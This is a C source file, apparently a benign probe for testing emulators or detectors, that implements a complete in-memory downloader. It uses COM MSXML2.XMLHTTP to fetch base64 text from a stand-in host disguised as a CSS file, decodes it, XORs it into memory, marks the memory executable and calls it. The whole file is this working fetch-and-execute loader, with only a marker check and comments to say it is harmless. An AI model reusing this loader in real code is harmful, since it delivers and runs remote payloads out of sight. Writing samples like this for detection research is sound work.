/*
 * loader.c - probe: a downloader that asks COM for MSXML2.XMLHTTP.6.0 (as script-born loaders
 * do, here from C), fetches base64 text (get_responseText: a BSTR), decodes it with
 * CryptStringToBinaryW, XORs it into RW memory, makes it RX and calls it (benign, emulator-only;
 * see ../../lineage-common/common.h).
 * Exit codes: 0 ok, 1 no marker, 2 download failed, 3 memory, 4 decode.
 */
#include "common.h"
#include <oleauto.h>
#include <wincrypt.h>

static const GUID CLSID_XMLHTTP60_ = {0x88d96a0a, 0xf192, 0x11d4, {0xa6, 0x5f, 0x00, 0x40, 0x96, 0x32, 0x51, 0xe5}};
static const GUID IID_IXMLHTTPRequest_ = {0xed8c108d, 0x4349, 0x11d2, {0x91, 0xa4, 0x00, 0xc0, 0x4f, 0x79, 0x69, 0xe8}};

/* IXMLHTTPRequest (msxml6.idl): IDispatch's seven methods, then these, in this order. */
typedef struct IXMLHTTPRequest_ IXMLHTTPRequest_;
typedef struct {
    HRESULT (STDMETHODCALLTYPE *QueryInterface)(IXMLHTTPRequest_ *, REFIID, void **);
    ULONG (STDMETHODCALLTYPE *AddRef)(IXMLHTTPRequest_ *);
    ULONG (STDMETHODCALLTYPE *Release)(IXMLHTTPRequest_ *);
    void *GetTypeInfoCount, *GetTypeInfo, *GetIDsOfNames, *Invoke;
    HRESULT (STDMETHODCALLTYPE *open)(IXMLHTTPRequest_ *, BSTR, BSTR, VARIANT, VARIANT, VARIANT);
    HRESULT (STDMETHODCALLTYPE *setRequestHeader)(IXMLHTTPRequest_ *, BSTR, BSTR);
    void *getResponseHeader, *getAllResponseHeaders;
    HRESULT (STDMETHODCALLTYPE *send)(IXMLHTTPRequest_ *, VARIANT);
    void *abort;
    HRESULT (STDMETHODCALLTYPE *get_status)(IXMLHTTPRequest_ *, LONG *);
    void *get_statusText, *get_responseXML;
    HRESULT (STDMETHODCALLTYPE *get_responseText)(IXMLHTTPRequest_ *, BSTR *);
    void *get_responseBody, *get_responseStream;
    HRESULT (STDMETHODCALLTYPE *get_readyState)(IXMLHTTPRequest_ *, LONG *);
} IXMLHTTPRequestVtbl_;
struct IXMLHTTPRequest_ {
    const IXMLHTTPRequestVtbl_ *lpVtbl;
};

static unsigned char g_body[8192];

void Entry(void)
{
    static struct sc_ctx ctx;
    IXMLHTTPRequest_ *req = 0;
    VARIANT async, empty;
    BSTR method, url, text = 0;
    LONG status = 0, state = 0;
    DWORD size = sizeof(g_body), i, old;
    unsigned char *code;

    if (!marker_present())
        ExitProcess(1);
    CoInitializeEx(0, COINIT_APARTMENTTHREADED);
    if (FAILED(CoCreateInstance(&CLSID_XMLHTTP60_, 0, CLSCTX_INPROC_SERVER, &IID_IXMLHTTPRequest_, (void **)&req)) || !req)
        ExitProcess(2);
    VariantInit(&async);
    async.vt = VT_BOOL;
    async.boolVal = VARIANT_FALSE;
    VariantInit(&empty);
    method = SysAllocString(L"GET");
    url = SysAllocString(L"http://cdn.example-docsync.org/static/theme.css");
    if (FAILED(req->lpVtbl->open(req, method, url, async, empty, empty)) || FAILED(req->lpVtbl->send(req, empty)) ||
        FAILED(req->lpVtbl->get_readyState(req, &state)) || state != 4 ||
        FAILED(req->lpVtbl->get_status(req, &status)) || status != 200 ||
        FAILED(req->lpVtbl->get_responseText(req, &text)) || !text)
        ExitProcess(2);
    if (!CryptStringToBinaryW(text, 0, CRYPT_STRING_BASE64, g_body, &size, 0, 0))
        ExitProcess(4);
    SysFreeString(text);
    req->lpVtbl->Release(req);
    code = (unsigned char *)VirtualAlloc(0, size, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!code)
        ExitProcess(3);
    for (i = 0; i < size; i++)
        code[i] = g_body[i] ^ 0x71;
    if (!VirtualProtect(code, size, PAGE_EXECUTE_READ, &old))
        ExitProcess(3);
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_xmlhttp.txt", "fetched through MSXML2.XMLHTTP\n");
    ((void (WINAPI *)(struct sc_ctx *))(void *)code)(&ctx);
    CoUninitialize();
    ExitProcess(0);
}
